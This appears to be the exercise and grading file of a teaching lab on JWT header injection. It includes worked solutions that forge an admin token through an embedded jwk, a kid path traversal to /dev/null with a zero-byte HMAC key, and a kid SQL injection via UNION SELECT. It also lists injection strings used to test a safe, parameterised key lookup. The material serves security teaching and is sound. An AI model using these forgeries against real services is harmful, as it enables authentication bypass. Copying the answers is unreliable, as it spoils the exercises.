"""Exercises for notebook 07: header injection (jwk, jku, kid)."""

from __future__ import annotations

import hmac
import secrets
import sqlite3
import tempfile
from collections.abc import Callable
from contextlib import closing
from typing import Any

from labkit import examples, keys, tokens, vulnerable
from labkit.errors import InvalidTokenError, LabkitError
from labkit.exercises import NOT_ATTEMPTED, Exercise, token_answer
from labkit.exercises._probes import is_starter
from labkit.verify import verify

__all__ = ["EXERCISES"]

_NOW = 1767259800  # 2026-01-01T09:30:00Z: the frozen clock of notebooks 07 and 08
_API = {"audience": "labkit-api", "issuer": "https://idp.labkit.local", "now": _NOW}
# The kids of 07.4's key table (a dot in one, for a lookup that reads kids as regexes); each
# check run stores fresh secrets under them, so a function that knows the secrets fails.
_KIDS = ("2026-01", "2026-02", "Issuer-Key", "key.2026")


def _honest() -> dict[str, str]:
    """The key table for one run: the fixed kids and one made up now, each with a new secret."""
    kids = (*_KIDS, f"k-{secrets.token_hex(4)}")
    return {kid: f"secret-{secrets.token_hex(16)}" for kid in kids}



def _admin_forgery(answer: Any) -> tokens.Token | str:
    """The parsed answer if it is Alice's claims with role admin; else what is off."""
    forged = token_answer(answer, "forged token")
    if isinstance(forged, str):
        return forged
    if forged.payload.get("role") != "admin":
        return "the payload's role should be 'admin'"
    if {**forged.payload, "role": "reader"} != examples.LAB_CLAIMS:
        return "keep Alice's other claims as they are (start from {**alice, 'role': 'admin'})"
    return forged


def _accepted(verifier: Callable[..., Any], token: str, key: Any, alg: str) -> str | None:
    try:
        verifier(token, key, algorithms=[alg], **_API)
    except LabkitError as exc:
        return f"the vulnerable service refused it: {exc}"
    return None


def _accepted_by_store(verifier: Callable[..., Any], token: str, where: str) -> str | None:
    """Run a kid verifier against a key store of the checker's own, removed right after."""
    with tempfile.TemporaryDirectory(prefix="labkit-07-") as folder:
        store = vulnerable.make_key_store(folder)
        return _accepted(verifier, token, getattr(store, where), "HS256")


def _jwk_forgery(answer: Any) -> str | None:
    forged = _admin_forgery(answer)
    if isinstance(forged, str):
        return forged
    if "jwk" not in forged.header:
        return "the header needs a 'jwk' member: the public half of your key"
    jwk = forged.header["jwk"]
    if not isinstance(jwk, dict):
        return f"'jwk' must be a JSON object (a JWK), not {type(jwk).__name__}"
    if "d" in jwk or "p" in jwk:
        return "your jwk carries private key members ('d', 'p'...): embed only the public half"
    service = keys.demo_public_key("rsa")
    if jwk.get("n") == keys.to_jwk(service).get("n"):
        return "the jwk is the service's own public key; embed the public half of your own key"
    try:
        verify(answer, service, algorithms=["RS256"], **_API)
    except InvalidTokenError:
        pass
    else:
        return "that is signed with the service's own private key; an attacker has only their own"
    return _accepted(vulnerable.trust_embedded_jwk, answer, service, "RS256")


def _signed_with_empty_key(forged: tokens.Token) -> bool:
    """True if the token's HMAC is the one the empty key makes (all /dev/null can give)."""
    alg = forged.header.get("alg")
    if alg not in ("HS256", "HS384", "HS512"):
        return False
    mac = hmac.digest(b"", forged.signing_input, "sha" + alg[2:])
    return hmac.compare_digest(mac, forged.signature)


def _traversal_forgery(answer: Any) -> str | None:
    forged = _admin_forgery(answer)
    if isinstance(forged, str):
        return forged
    kid = forged.header.get("kid")
    if not isinstance(kid, str) or "dev/null" not in kid:
        return "point the header's 'kid' at /dev/null, climbing out of the key directory with ../"
    refused = _accepted_by_store(vulnerable.kid_as_path, answer, "directory")
    if refused is not None and not _signed_with_empty_key(forged):
        return f"{refused}; sign with what /dev/null reads as: the empty key b''"
    if refused is not None and not kid.startswith("/") and kid.count("../") < 8:
        return f"{refused}; climb with more ../ (the key folder may sit deep: ten are plenty)"
    return refused


def _sql_forgery(answer: Any) -> str | None:
    forged = _admin_forgery(answer)
    if isinstance(forged, str):
        return forged
    kid = forged.header.get("kid")
    if not isinstance(kid, str) or "select" not in kid.lower():
        return "put a UNION SELECT of your secret into the header's 'kid'"
    return _accepted_by_store(vulnerable.kid_in_sql, answer, "database")


_LOOKUP_STARTER = """\
def lookup_secret(db, kid):
    ...  # return the secret stored for kid, or None


answer = lookup_secret"""

# Kids an attacker sends, each with the mistake that would let it find a key.
_NEAR_MISSES: tuple[tuple[str, str], ...] = (
    ("%", "LIKE treats % as any text: compare with =, not LIKE"),
    ("2026-0_", "LIKE treats _ as any character: compare with =, not LIKE"),
    ("2026%", "LIKE treats % as any text: compare with =, not LIKE"),
    ("*", "GLOB treats * as any text: compare with =, not GLOB"),
    ("2026-0?", "GLOB treats ? as any character: compare with =, not GLOB"),
    ("[2]026-01", "GLOB treats [...] as a character class: compare with ="),
    (
        "x2026-01y",
        "the lookup finds a kid inside a longer one (instr, LIKE '%...%'): match exactly",
    ),
    ("2026-01-old", "the lookup matches a prefix of the kid: match the whole kid exactly"),
    ("2026", "the lookup matches a kid that merely starts with this: match exactly"),
    ("issuer-key", "the lookup ignores case (COLLATE NOCASE, lower() or upper()): match exactly"),
    ("ISSUER-KEY", "the lookup ignores case (COLLATE NOCASE, lower() or upper()): match exactly"),
    (" 2026-01", "the lookup strips whitespace: a kid must match exactly, spaces included"),
    ("2026-01 ", "the lookup strips whitespace: a kid must match exactly, spaces included"),
    ("2026-01\n", "the lookup strips a line end: a kid must match exactly"),
    ("\t2026-02", "the lookup strips whitespace: a kid must match exactly"),
    ("2026'-01", "your code deletes quotes from the kid: pass it as a parameter instead"),
    ("'2026-01'", "your code deletes quotes from the kid: pass it as a parameter instead"),
    ('2026"-01', "your code deletes double quotes from the kid: pass it as a parameter"),
    ("2026-01'--", "the quote and -- reached the SQL text: pass the kid as a parameter"),
    ("' OR '1'='1", "the kid rewrote the query (OR '1'='1'): pass it as a parameter"),
    ("x' OR 1=1 --", "the kid rewrote the query (OR 1=1): pass it as a parameter"),
    ("nope' OR kid LIKE '%", "the kid rewrote the query: pass it as a parameter"),
    ("x' UNION SELECT 'evil' --", "the kid added a UNION SELECT: pass it as a parameter"),
    ("x' UNION SELECT secret FROM keys --", "the kid added a UNION SELECT: pass it as a parameter"),
    ("2026-01' --", "the kid commented out the rest of the query: pass it as a parameter"),
    ('x" OR "1"="1', "the kid rewrote the query: pass it as a parameter"),
    ("2026-01\0", "a NUL byte cut the kid short: compare the whole string, as a parameter"),
    ("2026-01\\", "a backslash changed the kid: compare it exactly, as a parameter"),
    ("keyX2026", "the lookup reads the stored kid as a pattern ('.' is any character): use ="),
    ("２０２６-01", "the lookup folds fullwidth digits (NFKC): a kid must match exactly"),
    ("2026‐01", "the lookup folds a Unicode hyphen into '-': a kid must match exactly"),
)


def _lookup_db(honest: dict[str, str]) -> sqlite3.Connection:
    db = sqlite3.connect(":memory:", check_same_thread=False)  # answers run on their own thread
    db.execute("CREATE TABLE keys (kid TEXT PRIMARY KEY, secret TEXT NOT NULL)")
    db.executemany("INSERT INTO keys VALUES (?, ?)", list(honest.items()))
    return db


def _safe_lookup(answer: Any) -> str | None:
    if not callable(answer):
        return "pass your function itself (no parentheses)"
    if is_starter(answer, _LOOKUP_STARTER):
        return NOT_ATTEMPTED
    honest = _honest()
    with closing(_lookup_db(honest)) as db:
        for kid, secret in honest.items():
            got = answer(db, kid)
            if got is None:
                return f"kid {kid!r} exists; you returned None"
            if got not in (secret, secret.encode()):
                return f"for kid {kid!r} you returned {got!r}, expected {secret!r}"
        if answer(db, "2026-03") is not None:
            return "an unknown kid should give None"
        for kid, mistake in _NEAR_MISSES:
            try:
                got = answer(db, kid)
            except (sqlite3.Error, ValueError) as exc:
                return f"kid {kid!r} broke your query ({exc}): it still reaches the SQL text"
            if got is not None:
                return f"kid {kid!r} returned {got!r}, but no key has that kid: {mistake}"
        remaining = db.execute("SELECT kid, secret FROM keys ORDER BY kid").fetchall()
        if dict(remaining) != honest:
            return "the key table changed while your function ran: it must only read"
    return None


EXERCISES = (
    Exercise(
        id="07.1",
        title="Bring your own key",
        verify=_jwk_forgery,
        hints=(
            "Make an RSA key pair of your own, put its public half in the header as a JWK, "
            "and sign with its private half.",
            "rsa.generate_private_key(public_exponent=65537, key_size=2048); keys.to_jwk(public); "
            "labkit.sign_token(claims, key, 'RS256', headers={'jwk': ...}).",
        ),
        solution="""\
from cryptography.hazmat.primitives.asymmetric import rsa

my_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
my_jwk = keys.to_jwk(my_key.public_key())
answer = labkit.sign_token({**alice, "role": "admin"}, my_key, "RS256", headers={"jwk": my_jwk})""",
        starter="answer = ...",
        success="The verifier checked your signature with your key: it proved only that you "
        "signed it.",
    ),
    Exercise(
        id="07.2",
        title="An empty key without an empty key",
        verify=_traversal_forgery,
        hints=(
            "labkit.sign_token refuses an empty secret. HMAC first pads every key with zero "
            "bytes to the hash's block size (64 bytes for SHA-256).",
            "So b'\\x00' and b'' are the same HMAC key: sign with b'\\x00' and a kid of "
            "'../../../../../../dev/null'.",
        ),
        solution="""\
kid = "../" * 10 + "dev/null"
answer = labkit.sign_token({**alice, "role": "admin"}, b"\\x00", "HS256", headers={"kid": kid})""",
        starter="answer = ...",
        success="One zero byte and no bytes at all are the same HMAC key, which is why "
        "PortSwigger's lab signs with AA==.",
    ),
    Exercise(
        id="07.3",
        title="Your key, from their database",
        verify=_sql_forgery,
        hints=(
            "Close the quote in the service's WHERE clause, then UNION SELECT a secret of your "
            "own and comment out the rest with --.",
            "The service still refuses secrets under 32 bytes, so pick a long one without a "
            "quote in it; sign with the same secret.",
        ),
        solution="""\
my_secret = "mallory-chose-this-secret-of-40-bytes!!!"
kid = f"nothing' UNION SELECT '{my_secret}' --"
answer = labkit.sign_token({**alice, "role": "admin"}, my_secret, "HS256", headers={"kid": kid})""",
        starter="answer = ...",
        success="The minimum key length held, and did not matter: you chose the key.",
    ),
    Exercise(
        id="07.4",
        title="Look the kid up safely",
        verify=_safe_lookup,
        hints=(
            "Never build the SQL text from the kid: pass it as a parameter, so the database "
            "reads it as a value and never as SQL.",
            "db.execute('SELECT secret FROM keys WHERE kid = ?', (kid,)).fetchone() gives a row "
            "or None.",
        ),
        solution="""\
def lookup_secret(db, kid):
    row = db.execute("SELECT secret FROM keys WHERE kid = ?", (kid,)).fetchone()
    return None if row is None else row[0]


answer = lookup_secret""",
        starter=_LOOKUP_STARTER,
        success="A parameter is a value, whatever quotes it holds: the query cannot be rewritten.",
    ),
)
